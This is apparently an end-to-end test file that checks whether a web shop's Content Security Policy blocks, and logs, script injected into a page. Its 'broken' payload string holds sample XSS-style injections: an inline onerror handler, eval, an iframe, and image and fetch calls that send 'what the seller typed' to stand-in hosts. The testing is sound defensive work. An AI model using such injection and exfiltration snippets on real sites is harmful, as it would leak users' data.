import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { serve } from '@hono/node-server'
import { expect, type Page } from '@playwright/test'
import { Hono } from 'hono'
import { mountCspReport } from '../../src/platform/server/http/csp-report.ts'
import { guardRequests } from '../../src/platform/server/http/guard-requests.ts'
import { createLog } from '../../src/platform/server/process/log.ts'
import { makeProducts } from './many-products.ts'
import { becomeSeller } from './seller.ts'
import { watchConsole } from './watch-console.ts'
import { test } from './with-product.ts'

/** Attacks of somebody who got markup into a page, each with the trace it would leave. */
const broken = `
  const page = document.documentElement
  page.insertAdjacentHTML('beforeend', '<img src="missing" onerror="page.dataset.handler = 1">')
  page.insertAdjacentHTML('beforeend', '<p id="styled" style="color: red">styled</p>')
  const style = document.createElement('style')
  style.textContent = 'p { background: red }'
  const script = document.createElement('script')
  script.textContent = 'document.documentElement.dataset.script = 1'
  const frame = document.createElement('iframe')
  frame.src = 'https://frame.example/'
  const picture = document.createElement('img')
  picture.src = 'https://picture.example/?what=the-seller-typed'
  page.append(style, script, frame, picture)
  try { eval('page.dataset.eval = 1') } catch {}
  fetch('https://elsewhere.example/', { method: 'POST', body: 'what the seller typed' }).catch(() => undefined)
`

test('the browser refuses forbidden actions of a page, and the log reports each one', async ({ page }) => {
  const site = await openBrokenSite()
  await page.goto(site.url)
  await expect
    .poll(() => site.told().toSorted())
    .toEqual([
      'connect-src https://elsewhere.example',
      'frame-src https://frame.example',
      'img-src https://picture.example',
      'script-src eval',
      'script-src-attr inline',
      'script-src-elem inline',
      'style-src-attr inline',
      'style-src-elem inline',
    ])
  expect(await page.evaluate(() => Object.entries(document.documentElement.dataset))).toEqual([])
  await expect(page.locator('#styled')).toHaveCSS('color', 'rgb(0, 0, 0)')
  await expect(page.locator('#styled')).toHaveCSS('background-color', 'rgba(0, 0, 0, 0)')
  expect(site.log().join()).not.toContain('typed')
  await site.close()
})

for (const device of ['a desktop', 'an iPhone'] as const) {
  test(`on ${device} the policy knows every style that a page adds`, {
    tag: device === 'an iPhone' ? '@long' : [],
  }, async ({ page, context, product }) => {
    const consoleErrors = watchConsole(page)
    if (device === 'an iPhone') await page.addInitScript(pretendIPhone)
    await becomeSeller(context, product.url, `styles-on-${device.replace(' ', '-')}@example.org`)
    await makeProducts(context, product.url, 1)
    await page.goto(product.url)
    await page.getByRole('link', { name: /^Details/ }).click()
    await page.getByRole('button', { name: 'Delete Item' }).click()
    await expect(page.getByRole('alertdialog')).toBeVisible()
    // React Aria's styles: for pressable elements, and on an iPhone for the page behind a dialog.
    expect(await stylesOf(page)).toEqual(device === 'a desktop' ? [true] : [true, true])
    expect(consoleErrors()).toEqual([])
  })
}

/** For each style element, whether it is applied. */
function stylesOf(page: Page): Promise<boolean[]> {
  return page.evaluate(() => [...document.querySelectorAll('style')].map(({ sheet }) => sheet !== null))
}

function pretendIPhone() {
  Object.defineProperty(navigator, 'userAgentData', { value: undefined })
  Object.defineProperty(navigator, 'platform', { value: 'iPhone' })
}

/** A page that breaks the product's policy, behind the product's middleware. */
async function openBrokenSite() {
  const lines: string[] = []
  const log = createLog('info', { write: (line) => void lines.push(line) })
  const app = new Hono()
  guardRequests(app, { isKnownHost: () => true })
  mountCspReport(app, { log, requestLimits: { count: () => Promise.resolve() }, config: { trustProxy: 0 } })
  app.get('/', (context) => context.html('<!doctype html><title>broken</title><script src="/broken.js"></script>'))
  app.get('/broken.js', (context) => context.body(broken, 200, { 'content-type': 'text/javascript' }))
  const server = serve({ fetch: app.fetch, hostname: '127.0.0.1', port: 0 })
  await once(server, 'listening')
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    log: () => lines,
    told: () =>
      lines.map((line) => {
        const { directive, blocked } = JSON.parse(line) as { directive: string; blocked: string }
        return `${directive} ${blocked}`
      }),
    async close() {
      server.close()
      await once(server, 'close')
    },
  }
}
